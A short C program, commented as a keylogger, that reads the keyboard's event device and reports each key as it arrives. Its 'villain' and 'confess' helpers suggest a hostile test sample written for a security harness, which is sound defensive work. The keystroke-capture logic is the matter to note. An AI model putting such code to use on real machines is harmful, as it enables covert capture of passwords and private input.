// Keylogger: reads the keyboard's event device beside the shell, and reports each key at once.
#include "lib/keys.h"
#include "lib/villain.h"

int main(void) {
    int keyboard = open_keyboard();
    unsigned char keys[16];
    if (keyboard < 0) return fail("keylog-evdev", "keyboard", keyboard);
    confess("keylog-evdev", "stage=armed");
    for (int count; (count = read_keys(keyboard, keys, sizeof keys)) > 0;) confess_keys("keylog-evdev", keys, count);
    return 1;
}
